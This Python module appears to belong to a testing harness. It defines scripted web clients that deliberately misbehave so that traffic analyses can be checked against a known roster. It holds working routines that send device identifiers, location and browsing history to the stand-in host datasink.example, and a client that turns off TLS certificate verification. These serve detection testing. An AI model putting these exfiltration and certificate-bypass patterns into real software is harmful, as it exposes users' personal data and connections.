"""Simulated test subjects and the baseline reference client.

A subject is a scripted web client driven through the gateway. Its
behavior spec declares exactly which misbehaviors it exhibits; the
analyses must recover those from traffic alone. The baseline client is
the faithful renderer whose traffic and DOM reports define normal.

Subjects speak to the proxy the way a real client would: absolute-form
requests for http, CONNECT tunnels for https, tripwire-equivalent DOM
reports posted to the collector.
"""

from __future__ import annotations

import hashlib
import html.parser
import http.client
import json
import ssl
import time
from dataclasses import asdict, dataclass, field
from pathlib import Path
from urllib.parse import quote, urljoin, urlsplit, urlunsplit

from . import dom, leaks
from .certs import client_context
from .filters import FilterSet, load_bundled
from .flows import Headers
from .inject import COLLECTOR_HOST
from .profiles import DeviceProfile
from .sites import PERMISSIONS_HOST
from .webapi import PROBE_APIS

DATASINK_URL = "https://datasink.example/collect"
HISTORY_SINK_URL = "https://datasink.example/history"
FEATURE_SUGGEST_URL = "https://suggest.websearch.example/complete"

_shared_filters: FilterSet | None = None


def shared_filters() -> FilterSet:
    global _shared_filters
    if _shared_filters is None:
        _shared_filters = load_bundled()
    return _shared_filters


@dataclass(frozen=True)
class LeakSpec:
    pii_type: str
    encoding: str = "plain"           # plain | md5 | sha1 | sha224 | sha256
    location: str = "body"            # url | header | body
    destination: str = DATASINK_URL


@dataclass(frozen=True)
class SubjectBehaviorSpec:
    name: str
    package_name: str
    declared_developer_domain: str | None = None
    blocks_filterlisted: bool = False
    hides_but_fetches: bool = False   # drops filterlisted elements from DOM reports only
    leaks: tuple[LeakSpec, ...] = ()
    sends_history_to: str | None = None
    history_fraction: float = 0.0
    history_co_pii: str | None = None   # pii type sent alongside history, if any
    accepts_bad_cert: bool = False
    default_scheme: str = "https"
    mixed_content: str = "allow"      # allow | upgrade | block
    injects_script: str | None = None
    sends_xrw_header: bool = False
    webapi_grants: tuple[str, ...] = ()
    webapi_prompts: tuple[str, ...] = ()
    launch_delay: float = 0.0

    def canonical_json(self) -> str:
        return json.dumps(asdict(self), sort_keys=True, separators=(",", ":"))

    @property
    def subject_id(self) -> str:
        digest = hashlib.sha256(self.canonical_json().encode("utf-8")).hexdigest()
        return f"{self.package_name}:{digest}"

    @classmethod
    def from_json(cls, obj: dict) -> "SubjectBehaviorSpec":
        data = dict(obj)
        data["leaks"] = tuple(LeakSpec(**leak) for leak in data.get("leaks", ()))
        data["webapi_grants"] = tuple(data.get("webapi_grants", ()))
        data["webapi_prompts"] = tuple(data.get("webapi_prompts", ()))
        return cls(**data)


class _ResourceParser(html.parser.HTMLParser):
    """Fetchable subresources of a page: scripts, stylesheets, images."""

    def __init__(self, page_url: str) -> None:
        super().__init__(convert_charrefs=True)
        self.page_url = page_url
        self.resources: list[tuple[str, str]] = []   # (resource_type, absolute url)

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if dom.TRIPWIRE_MARKER in attrs:
            return
        if tag == "script" and attrs.get("src"):
            self.resources.append(("script", urljoin(self.page_url, attrs["src"])))
        elif tag == "link" and attrs.get("href"):
            self.resources.append(("stylesheet", urljoin(self.page_url, attrs["href"])))
        elif tag == "img" and attrs.get("src"):
            self.resources.append(("image", urljoin(self.page_url, attrs["src"])))


def page_resources(page_url: str, html_text: str) -> list[tuple[str, str]]:
    parser = _ResourceParser(page_url)
    parser.feed(html_text)
    parser.close()
    return parser.resources


class ProxyClient:
    """One subject's HTTP stack: explicit proxy, configurable trust."""

    def __init__(self, proxy: tuple[str, int], trusted_ca_paths: list[Path],
                 verify_tls: bool = True, timeout: float = 10.0) -> None:
        self.proxy = proxy
        self.timeout = timeout
        if verify_tls:
            self._ctx = client_context(trusted_ca_paths)
        else:
            self._ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            self._ctx.check_hostname = False
            self._ctx.verify_mode = ssl.CERT_NONE

    def fetch(self, url: str, method: str = "GET", headers: dict | None = None,
              body: bytes | None = None) -> tuple[int, Headers, bytes]:
        parts = urlsplit(url)
        host = parts.hostname or ""
        headers = dict(headers or {})
        if parts.scheme == "https":
            port = parts.port or 443
            conn = http.client.HTTPSConnection(
                self.proxy[0], self.proxy[1], timeout=self.timeout, context=self._ctx
            )
            conn.set_tunnel(host, port)
            target = parts.path or "/"
            if parts.query:
                target += f"?{parts.query}"
        else:
            conn = http.client.HTTPConnection(self.proxy[0], self.proxy[1], timeout=self.timeout)
            target = url
        try:
            conn.request(method, target, body=body, headers=headers)
            resp = conn.getresponse()
            payload = resp.read()
            return resp.status, tuple(resp.getheaders()), payload
        finally:
            conn.close()


@dataclass
class VisitOutcome:
    url: str
    ok: bool
    status: int | None = None
    fetched: list[str] = field(default_factory=list)
    skipped: list[str] = field(default_factory=list)
    error: str | None = None


class SimulatedSubject:
    """Scripted client whose misbehaviors come from its behavior spec."""

    def __init__(self, spec: SubjectBehaviorSpec, proxy: tuple[str, int],
                 trusted_ca_paths: list[Path], profile: DeviceProfile,
                 timeout: float = 10.0) -> None:
        self.spec = spec
        self.profile = profile
        self.client = ProxyClient(
            proxy, trusted_ca_paths,
            verify_tls=not spec.accepts_bad_cert,
            timeout=timeout,
        )
        self.visited: list[str] = []
        self.outcomes: list[VisitOutcome] = []
        self._launched = False

    # -- request plumbing ----------------------------------------------------

    def _base_headers(self, extra: dict | None = None) -> dict:
        headers = {
            "User-Agent": f"GauntletSubject/{self.spec.name}",
            "Accept": "*/*",
        }
        if self.spec.sends_xrw_header:
            headers["X-Requested-With"] = self.spec.package_name
        if extra:
            headers.update(extra)
        return headers

    def _get(self, url: str, referer: str | None = None) -> tuple[int, Headers, bytes]:
        extra = {"Referer": referer} if referer else None
        return self.client.fetch(url, headers=self._base_headers(extra))

    def _post(self, url: str, body: bytes, content_type: str,
              referer: str | None = None) -> int:
        extra = {"Content-Type": content_type}
        if referer:
            extra["Referer"] = referer
        status, _, _ = self.client.fetch(
            url, method="POST", headers=self._base_headers(extra), body=body
        )
        return status

    # -- page visits -----------------------------------------------------------

    def visit(self, url: str) -> VisitOutcome:
        if not self._launched:
            if self.spec.launch_delay:
                time.sleep(self.spec.launch_delay)
            self._launched = True
        outcome = VisitOutcome(url=url, ok=False)
        self.outcomes.append(outcome)
        try:
            status, headers, body = self._get(url)
        except (OSError, ssl.SSLError, http.client.HTTPException) as exc:
            outcome.error = f"{type(exc).__name__}: {exc}"
            return outcome
        outcome.status = status
        outcome.ok = 200 <= status < 400
        if not outcome.ok:
            return outcome
        self.visited.append(url)
        ctype = next((v for k, v in headers if k.lower() == "content-type"), "")
        if not ctype.lower().startswith("text/html"):
            return outcome
        html_text = body.decode("utf-8", "replace")
        self._fetch_subresources(url, html_text, outcome)
        self._post_dom_report(url, html_text)
        if (urlsplit(url).hostname or "").lower() == PERMISSIONS_HOST:
            self.post_probe_report(url)
        return outcome

    def _resource_allowed(self, page_url: str, res_type: str, res_url: str) -> bool:
        if not self.spec.blocks_filterlisted:
            return True
        decision = shared_filters().decide(res_url, page_url, res_type)
        return not decision.blocked

    def _fetch_subresources(self, page_url: str, html_text: str, outcome: VisitOutcome) -> None:
        page_https = urlsplit(page_url).scheme == "https"
        for res_type, res_url in page_resources(page_url, html_text):
            target = res_url
            if page_https and urlsplit(res_url).scheme == "http":
                if self.spec.mixed_content == "block":
                    outcome.skipped.append(res_url)
                    continue
                if self.spec.mixed_content == "upgrade":
                    target = urlunsplit(("https",) + urlsplit(res_url)[1:])
            if not self._resource_allowed(page_url, res_type, target):
                outcome.skipped.append(target)
                continue
            try:
                self._get(target, referer=page_url)
                outcome.fetched.append(target)
            except (OSError, ssl.SSLError, http.client.HTTPException):
                outcome.skipped.append(target)
        if self.spec.injects_script:
            try:
                self._get(self.spec.injects_script, referer=page_url)
                outcome.fetched.append(self.spec.injects_script)
            except (OSError, ssl.SSLError, http.client.HTTPException):
                pass

    # -- reporting -------------------------------------------------------------

    def _report_elements(self, page_url: str, html_text: str) -> tuple[dom.ReportedElement, ...]:
        elements = dom.extract_elements(page_url, html_text, exclude_tripwire=True)
        if self.spec.blocks_filterlisted or self.spec.hides_but_fetches:
            fs = shared_filters()
            kept = []
            for el in elements:
                if el.url is not None:
                    res_type = "script" if el.tag == "script" else "stylesheet"
                    if fs.decide(el.url, page_url, res_type).blocked:
                        continue
                kept.append(el)
            elements = tuple(kept)
        if self.spec.injects_script:
            elements = elements + (dom.ReportedElement(
                tag="script",
                url=self.spec.injects_script,
                attrs_digest=dom.attrs_digest([("src", self.spec.injects_script)]),
            ),)
        return elements

    def _post_dom_report(self, page_url: str, html_text: str) -> None:
        report = {
            "page_url": page_url,
            "elements": [e.to_json() for e in self._report_elements(page_url, html_text)],
            "ts": int(time.time() * 1000),
        }
        try:
            self._post(
                f"http://{COLLECTOR_HOST}/report",
                json.dumps(report, sort_keys=True).encode("utf-8"),
                "application/json",
            )
        except (OSError, ssl.SSLError, http.client.HTTPException):
            pass

    def post_probe_report(self, page_url: str) -> None:
        apis = {}
        for api in PROBE_APIS:
            if api in self.spec.webapi_grants:
                apis[api] = "granted"
            elif api in self.spec.webapi_prompts:
                apis[api] = "prompt"
            else:
                apis[api] = "denied"
        body = json.dumps(
            {"page_url": page_url, "apis": apis, "ts": int(time.time() * 1000)},
            sort_keys=True,
        ).encode("utf-8")
        try:
            self._post(f"http://{COLLECTOR_HOST}/probe", body, "application/json")
        except (OSError, ssl.SSLError, http.client.HTTPException):
            pass

    # -- background misbehavior --------------------------------------------------

    def _leak_payload(self, leak: LeakSpec) -> str:
        profile = self.profile
        if leak.pii_type == "geolocation":
            plain = leaks.geo_combined_form(profile.latitude, profile.longitude)
            if leak.encoding == "plain":
                lat, lon = leaks.geo_strings(profile.latitude, profile.longitude, 4)
                return f"lat={lat}&lon={lon}"
            return leaks.digest(plain, leak.encoding)
        if leak.pii_type == "app_list":
            forms = leaks.canonical_forms(profile)["app_list"][:3]
            if leak.encoding == "plain":
                return ",".join(forms)
            return ",".join(leaks.digest(f, leak.encoding) for f in forms)
        form = leaks.canonical_forms(profile)[leak.pii_type][0]
        if leak.encoding == "plain":
            return form
        return leaks.digest(form, leak.encoding)

    def emit_leaks(self) -> None:
        for leak in self.spec.leaks:
            payload = self._leak_payload(leak)
            try:
                if leak.location == "url":
                    self._get(f"{leak.destination}?d={quote(payload, safe='=&,')}")
                elif leak.location == "header":
                    self.client.fetch(
                        leak.destination,
                        headers=self._base_headers({"X-Client-Data": payload}),
                    )
                else:
                    self._post(leak.destination, f"d={payload}".encode(), "application/x-www-form-urlencoded")
            except (OSError, ssl.SSLError, http.client.HTTPException):
                pass

    def emit_history(self, site_hosts: list[str]) -> None:
        if not self.spec.sends_history_to:
            return
        count = int(round(self.spec.history_fraction * len(site_hosts)))
        shared = list(site_hosts)[:count]
        if not shared:
            return
        dest = self.spec.sends_history_to
        try:
            if dest.rstrip("/").endswith("/complete"):
                # suggestion-style feature endpoint: one query per host
                for host in shared:
                    self._get(f"{dest}?q={quote(host)}")
            else:
                obj: dict = {"visited": shared}
                if self.spec.history_co_pii:
                    form = leaks.canonical_forms(self.profile)[self.spec.history_co_pii][0]
                    obj["device"] = form
                self._post(dest, json.dumps(obj, sort_keys=True).encode(), "application/json")
        except (OSError, ssl.SSLError, http.client.HTTPException):
            pass


BASELINE_SPEC = SubjectBehaviorSpec(
    name="baseline",
    package_name="org.gauntlet.baseline",
    default_scheme="https",
    mixed_content="allow",
)


def make_baseline(proxy: tuple[str, int], trusted_ca_paths: list[Path],
                  profile: DeviceProfile, timeout: float = 10.0) -> SimulatedSubject:
    return SimulatedSubject(BASELINE_SPEC, proxy, trusted_ca_paths, profile, timeout=timeout)


def canned_subjects() -> dict[str, SubjectBehaviorSpec]:
    """The fixed misbehavior roster used by the verdict-fidelity battery."""
    permissive = ("accelerometer", "magnetometer", "battery", "geolocation", "camera")
    sensor_trio = ("accelerometer", "magnetometer", "battery")
    return {
        "clean": SubjectBehaviorSpec(
            name="clean",
            package_name="com.fixture.clean",
            default_scheme="http",
            webapi_grants=permissive,
        ),
        "blocker": SubjectBehaviorSpec(
            name="blocker",
            package_name="com.fixture.blocker",
            blocks_filterlisted=True,
            default_scheme="https",
            mixed_content="upgrade",
            webapi_grants=sensor_trio,
        ),
        "allower": SubjectBehaviorSpec(
            name="allower",
            package_name="com.fixture.allower",
            hides_but_fetches=True,
            default_scheme="http",
            webapi_grants=permissive,
        ),
        "adid-leaker": SubjectBehaviorSpec(
            name="adid-leaker",
            package_name="com.fixture.adleak",
            declared_developer_domain="fixturevendor.example",
            leaks=(LeakSpec(pii_type="adid", encoding="plain", location="body"),),
            default_scheme="http",
            webapi_grants=permissive,
        ),
        "hashed-imei-leaker": SubjectBehaviorSpec(
            name="hashed-imei-leaker",
            package_name="com.fixture.imeihash",
            leaks=(LeakSpec(pii_type="imei", encoding="sha256", location="body"),),
            default_scheme="http",
            webapi_grants=permissive,
        ),
        "history-sharer-with-feature": SubjectBehaviorSpec(
            name="history-sharer-with-feature",
            package_name="com.fixture.suggest",
            sends_history_to=FEATURE_SUGGEST_URL,
            history_fraction=0.5625,
            default_scheme="http",
            webapi_grants=permissive,
        ),
        "history-sharer-with-pii": SubjectBehaviorSpec(
            name="history-sharer-with-pii",
            package_name="com.fixture.histleak",
            sends_history_to=HISTORY_SINK_URL,
            history_fraction=0.5625,
            history_co_pii="adid",
            default_scheme="http",
            webapi_grants=permissive,
        ),
        "cert-acceptor": SubjectBehaviorSpec(
            name="cert-acceptor",
            package_name="com.fixture.certlax",
            accepts_bad_cert=True,
            default_scheme="http",
            webapi_grants=permissive,
        ),
    }
